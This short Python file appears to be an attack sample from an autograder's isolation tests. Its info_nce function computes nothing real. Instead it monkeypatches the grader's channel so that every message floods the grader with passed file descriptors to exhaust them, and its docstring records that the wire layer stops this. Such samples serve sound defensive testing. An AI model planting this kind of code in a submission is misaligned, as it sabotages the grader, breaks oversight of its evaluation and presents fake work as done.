"""Sends the grader descriptors with its frames, thousands of them, to use up the grader's own.
stopped by: the wire
part: info_nce
"""

import array
import os
import socket

from autograder.isolation.remote.wire import Channel

honest = Channel.send
null = os.open("/dev/null", os.O_RDONLY)


def send(self, message, *rest):
    rights = array.array("i", [null] * 100)
    for byte in b"S":
        self._sock.sendmsg([bytes([byte])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    return honest(self, message, *rest)


def info_nce(z_a, z_b, temperature=0.2):
    Channel.send = send
    return z_a.sum()
